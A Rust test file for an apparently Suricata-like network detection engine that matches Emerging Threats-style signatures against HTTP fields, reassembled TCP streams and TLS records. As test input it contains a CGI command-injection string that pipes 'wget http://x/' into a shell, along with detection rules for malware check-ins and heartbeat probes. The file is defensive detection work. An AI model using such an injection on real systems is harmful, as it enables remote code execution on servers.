use serde_json::json;

use super::*;

fn matcher(sigs: serde_json::Value) -> ContentMatcher {
    ContentMatcher::new(sigs.as_array().unwrap(), InspectCaps::default())
}

fn http<'a>(method: &'a str, uri: &'a str, ua: Option<&'a str>) -> FieldValues<'a> {
    let mut v = FieldValues::default();
    v.set(Field::HttpMethod, Some(method.as_bytes()));
    v.set(Field::HttpUri, Some(uri.as_bytes()));
    v.set(Field::HttpUserAgent, ua.map(str::as_bytes));
    v
}

const HTTP_FIELDS: [Field; 3] = [Field::HttpMethod, Field::HttpUri, Field::HttpUserAgent];

fn ids(m: &ContentMatcher, v: &FieldValues<'_>) -> Vec<String> {
    let mut out = Vec::new();
    m.matches(v, &HTTP_FIELDS, SigDirection::Any, (40000, 80), &mut out);
    out.iter().map(|&i| m.signature(i).id.to_string()).collect()
}

/// ET 2024897 (rev 3) in the plan's shape, as the feed build translates it:
/// `ET USER_AGENTS Go HTTP Client User-Agent`: http.user_agent;
/// content:"Go-http-client"; startswith. And a POST+URI rule in the style of
/// ET MALWARE checkins: method POST, uri "/gate.php" endswith.
fn et_like() -> serde_json::Value {
    json!([
        {"id":"et-open:2024897","sid":2024897,"rev":3,"msg":"ET USER_AGENTS Go HTTP Client User-Agent",
         "class":"info.user-agent","proto":"http","direction":"to_server","fields":["http.user_agent"],
         "patterns":[{"literal":"Go-http-client","nocase":false,"field":"http.user_agent","startsWith":true}],
         "references":[],"licence":"BSD-3-Clause","set":"et-open"},
        {"id":"et-open:1","sid":1,"rev":1,"msg":"checkin","class":"malware.c2","proto":"http",
         "fields":["http.method","http.uri"],
         "patterns":[{"literal":"POST","nocase":false,"field":"http.method"},
                     {"literal":"/gate.php","nocase":true,"field":"http.uri","endsWith":true}],
         "references":[],"licence":"BSD-3-Clause"},
        {"id":"et-open:2","sid":2,"rev":1,"msg":"regex only","class":"x","proto":"http","fields":["http.uri"],
         "patterns":[],"regex":{"source":"^\\/[0-9]{6}$","flags":"","field":"http.uri"},
         "references":[],"licence":"BSD-3-Clause"},
        {"id":"et-open:3","sid":3,"rev":1,"msg":"lookahead","class":"x","proto":"http","fields":["http.uri"],
         "patterns":[{"literal":"/a","nocase":false,"field":"http.uri"}],
         "regex":{"source":"a(?=b)","flags":"","field":"http.uri"},"references":[],"licence":"BSD-3-Clause"},
        {"id":"et-open:4","sid":4,"rev":1,"msg":"status","class":"x","proto":"http","fields":["http.stat_code"],
         "patterns":[{"literal":"200","nocase":false,"field":"http.stat_code"}],"references":[],"licence":"BSD-3-Clause"},
        {"id":"et-open:5","sid":5,"rev":1,"msg":"mixed","class":"x","proto":"http","fields":["http.uri","dns.query"],
         "patterns":[{"literal":"/a","nocase":false,"field":"http.uri"},{"literal":"b","nocase":false,"field":"dns.query"}],
         "references":[],"licence":"BSD-3-Clause"},
        {"nonsense": true}
    ])
}

#[test]
fn compiles_and_reports_what_it_refuses() {
    let m = matcher(et_like());
    let r = m.report();
    assert_eq!((r.loaded, r.refused_total(), r.unanchored), (3, 4, 1));
    let reasons: Vec<&str> = r.refused.keys().map(String::as_str).collect();
    assert!(reasons.contains(&"regex: look-around"), "{reasons:?}");
    assert!(reasons.contains(&"field http.stat_code is not in match plan v1"));
    assert!(reasons.contains(&"fields of different events"));
    assert!(reasons
        .iter()
        .any(|r| r.starts_with("not a content signature")));
    assert_eq!(
        &*m.signature(1).set,
        "et-open",
        "set defaults to the id prefix"
    );
}

#[test]
fn confirms_candidates() {
    let m = matcher(et_like());
    assert_eq!(
        ids(&m, &http("GET", "/", Some("Go-http-client/1.1"))),
        ["et-open:2024897"]
    );
    assert!(ids(&m, &http("GET", "/", Some("x Go-http-client/1.1"))).is_empty());
    assert!(
        ids(&m, &http("GET", "/", Some("go-http-client/1.1"))).is_empty(),
        "case matters"
    );
    assert_eq!(ids(&m, &http("POST", "/x/GATE.PHP", None)), ["et-open:1"]);
    assert!(ids(&m, &http("GET", "/x/gate.php", None)).is_empty());
    assert!(ids(&m, &http("POST", "/gate.php?x", None)).is_empty());
    assert_eq!(ids(&m, &http("GET", "/123456", None)), ["et-open:2"]);
    let mut out = Vec::new();
    m.matches(
        &http("GET", "/", Some("Go-http-client/1.1")),
        &HTTP_FIELDS,
        SigDirection::ToClient,
        (40000, 80),
        &mut out,
    );
    assert!(
        out.is_empty(),
        "a to_server signature does not fire on the response side"
    );
}

#[test]
fn payload_across_chunks_once_per_flow_within_the_cap() {
    let m = ContentMatcher::new(
        json!([{"id":"t:1","msg":"m","class":"c","proto":"ip","direction":"to_server",
            "patterns":[{"literal":"|evil|","nocase":false,"field":"payload"},
                        {"literal":"END","nocase":false,"field":"payload","distance":0,"within":10}]}])
        .as_array()
        .unwrap(),
        InspectCaps { payload: 32, body: 0 },
    );
    let mut flow = FlowPayload::default();
    let mut fired = Vec::new();
    let dir = SigDirection::ToServer;
    for chunk in [&b"xx|ev"[..], b"il| abc", b"END and |evil| END again"] {
        assert!(flow.wants(dir, 32));
        flow.push_stream(dir, chunk, 32);
        flow.scan_stream(&m, dir, 32, (1, 2), &mut fired);
    }
    assert_eq!(
        fired,
        [0],
        "fires once, when END arrives, across the split literal"
    );
    assert!(!flow.wants(dir, 32), "cap reached");
    assert_eq!(flow.held_bytes(), 0, "buffer freed at the cap");
    // The other direction and bytes past the cap are not inspected.
    let mut other = FlowPayload::default();
    let mut fired = Vec::new();
    other.push_stream(SigDirection::ToClient, b"|evil| END", 32);
    other.scan_stream(&m, SigDirection::ToClient, 32, (1, 2), &mut fired);
    let mut late = FlowPayload::default();
    late.push_stream(dir, &[b'.'; 30], 32);
    late.push_stream(dir, b"|evil| END", 32);
    late.scan_stream(&m, dir, 32, (1, 2), &mut fired);
    assert!(fired.is_empty());
    // Datagrams: each one on its own.
    let tcp_only = ContentMatcher::new(
        json!([{"id":"t:2","proto":"tcp","patterns":[{"literal":"evil","field":"payload"}]}])
            .as_array()
            .unwrap(),
        InspectCaps::default(),
    );
    let mut udp = FlowPayload::default();
    udp.scan_datagram(&tcp_only, dir, b"evil", 32, (1, 2), &mut fired);
    assert!(
        fired.is_empty(),
        "a tcp signature does not look at datagrams"
    );
    let mut udp = FlowPayload::default();
    udp.scan_datagram(&m, dir, b"|evil|", 32, (1, 2), &mut fired);
    assert!(fired.is_empty());
    udp.scan_datagram(&m, dir, b"|evil| END", 32, (1, 2), &mut fired);
    udp.scan_datagram(&m, dir, b"|evil| END", 32, (1, 2), &mut fired);
    assert_eq!(fired, [0]);
}

#[test]
fn header_ports_restrict_in_rule_direction() {
    let m = matcher(json!([
        {"id":"p:1","patterns":[{"literal":"GET","field":"http.method"}],"ports":{"dst":[[443,443]]}},
        {"id":"p:2","direction":"to_client","patterns":[{"literal":"GET","field":"http.method"}],
         "ports":{"src":[[8000,8100]]}}
    ]));
    let v = http("GET", "/", None);
    let run = |ports| {
        let mut out = Vec::new();
        m.matches(&v, &HTTP_FIELDS, SigDirection::Any, ports, &mut out);
        out.iter()
            .map(|&i| m.signature(i).id.to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(run((40000, 443)), ["p:1"]);
    assert_eq!(run((40000, 80)), Vec::<String>::new());
    // A to_client rule's source port is the responder's.
    assert_eq!(run((40000, 8080)), ["p:2"]);
    assert_eq!(run((8080, 40000)), Vec::<String>::new());
}

/// Fires of one flow direction fed `chunks` as a TCP stream.
fn stream_fires(
    m: &ContentMatcher,
    dir: SigDirection,
    ports: (u16, u16),
    chunks: &[&[u8]],
) -> Vec<String> {
    let (mut flow, mut fired) = (FlowPayload::default(), Vec::new());
    for c in chunks {
        flow.push_stream(dir, c, 16 * 1024);
        flow.scan_stream(m, dir, 16 * 1024, ports, &mut fired);
    }
    fired
        .iter()
        .map(|&i| m.signature(i).id.to_string())
        .collect()
}

#[test]
fn a_long_anchor_split_at_any_byte_across_segments_is_found() {
    // Longer than the reach of a gram, with a relative pattern after it.
    let m = matcher(json!([
        {"id":"s:1","proto":"tcp","direction":"to_server","patterns":[
            {"literal":"|00 01|GET /cgi-bin/very/long/exploit/path.cgi?cmd=","field":"payload"},
            {"literal":"wget","field":"payload","distance":0,"within":8}]}
    ]));
    let mut stream = b"PREFIX-BYTES ".to_vec();
    stream.extend_from_slice(b"|00 01|GET /cgi-bin/very/long/exploit/path.cgi?cmd=");
    stream.extend_from_slice(b"x;wget http://x/ |sh");
    for a in 1..stream.len() {
        for b in [a + 1, a + 7, stream.len()] {
            let b = b.min(stream.len());
            let chunks: Vec<&[u8]> = [&stream[..a], &stream[a..b], &stream[b..]]
                .into_iter()
                .filter(|c| !c.is_empty())
                .collect();
            assert_eq!(
                stream_fires(&m, SigDirection::ToServer, (40000, 80), &chunks),
                ["s:1"],
                "split at {a} and {b}"
            );
        }
    }
}

#[test]
fn payload_groups_by_transport_direction_and_ports() {
    let m = matcher(json!([
        {"id":"g:smb","proto":"tcp","direction":"to_server","ports":{"dst":[[445,445]]},
         "patterns":[{"literal":"\u{ff}SMB","field":"payload"}]},
        {"id":"g:mysql","proto":"tcp","direction":"to_server","ports":{"dst":[[3306,3306]]},
         "patterns":[{"literal":"\u{11}","field":"payload","offset":3,"depth":1}]},
        {"id":"g:wide","proto":"tcp","direction":"to_server","ports":{"dst":[[1024,65535]]},
         "patterns":[{"literal":"wide-port","field":"payload"}]},
        {"id":"g:client","proto":"tcp","direction":"to_client","patterns":[{"literal":"server says","field":"payload"}]},
        {"id":"g:both","proto":"ip","patterns":[{"literal":"either way","field":"payload"}]},
        {"id":"g:udp","proto":"udp","ports":{"src":[[53,53]]},"patterns":[{"literal":"dns-ish","field":"payload"}]}
    ]));
    let (ts, tc) = (SigDirection::ToServer, SigDirection::ToClient);
    assert!(m.reads(Field::Payload));
    let smb: &[&[u8]] = &[b"\x00\x00\x00\x2f\xffSMBr"];
    assert_eq!(stream_fires(&m, ts, (40000, 445), smb), ["g:smb"]);
    assert!(stream_fires(&m, ts, (40000, 139), smb).is_empty());
    assert!(stream_fires(&m, tc, (40000, 445), smb).is_empty());
    // A narrow signature is found whichever of the flow's ports names it;
    // the rule's direction still decides.
    assert!(stream_fires(&m, ts, (445, 40000), smb).is_empty());
    let mysql: &[&[u8]] = &[b"\x20\x00\x00\x11rest"];
    assert_eq!(stream_fires(&m, ts, (40000, 3306), mysql), ["g:mysql"]);
    assert!(stream_fires(&m, ts, (40000, 3307), mysql).is_empty());
    assert_eq!(
        stream_fires(&m, ts, (40000, 8080), &[b"a wide-port b"]),
        ["g:wide"]
    );
    assert!(stream_fires(&m, ts, (40000, 80), &[b"a wide-port b"]).is_empty());
    assert_eq!(
        stream_fires(&m, tc, (40000, 80), &[b"server says hi"]),
        ["g:client"]
    );
    assert!(stream_fires(&m, ts, (40000, 80), &[b"server says hi"]).is_empty());
    for dir in [ts, tc] {
        assert_eq!(
            stream_fires(&m, dir, (40000, 80), &[b"it goes either way"]),
            ["g:both"]
        );
    }
    assert!(
        stream_fires(&m, ts, (53, 40000), &[b"dns-ish"]).is_empty(),
        "udp only"
    );
    let mut fired = Vec::new();
    let mut flow = FlowPayload::default();
    flow.scan_datagram(&m, tc, b"dns-ish either way", 1024, (53, 40000), &mut fired);
    let mut ids: Vec<String> = fired
        .iter()
        .map(|&i| m.signature(i).id.to_string())
        .collect();
    ids.sort();
    assert_eq!(ids, ["g:both", "g:udp"]);
    let no_payload =
        matcher(json!([{"id":"n:1","patterns":[{"literal":"GET","field":"http.method"}]}]));
    assert!(!no_payload.reads(Field::Payload));
}

#[test]
fn tls_ciphertext_is_not_searched_but_its_other_records_are() {
    let m = matcher(json!([
        {"id":"t:any","proto":"tcp","patterns":[{"literal":"needle-literal","field":"payload"}]},
        {"id":"t:hb","proto":"tcp","direction":"to_server","patterns":[
            {"literal":"\u{18}\u{03}\u{03}","field":"payload"},
            {"literal":"\u{01}\u{40}\u{00}","field":"payload","distance":2,"within":3}]}
    ]));
    let record = |kind: u8, body: &[u8]| {
        let mut r = vec![kind, 3, 3];
        r.extend_from_slice(&(body.len() as u16).to_be_bytes());
        r.extend_from_slice(body);
        r
    };
    let hello = record(22, b"\x01\x00\x00\x10client hello....");
    let app = record(23, b"xx needle-literal xx");
    let heartbeat = record(24, b"\x01\x40\x00");
    let ts = SigDirection::ToServer;
    assert!(
        stream_fires(&m, ts, (40000, 443), &[&hello, &app]).is_empty(),
        "a literal inside application data (ciphertext) is chance"
    );
    assert_eq!(
        stream_fires(&m, ts, (40000, 443), &[&hello, &app, &heartbeat]),
        ["t:hb"],
        "a heartbeat record after application data is searched"
    );
    let in_hello = record(22, b"needle-literal in a handshake");
    assert_eq!(stream_fires(&m, ts, (40000, 443), &[&in_hello]), ["t:any"]);
    // The same bytes in a stream that is not TLS are searched.
    assert_eq!(
        stream_fires(&m, ts, (40000, 80), &[b"GET / HTTP/1.1\r\n", &app]),
        ["t:any"]
    );
}
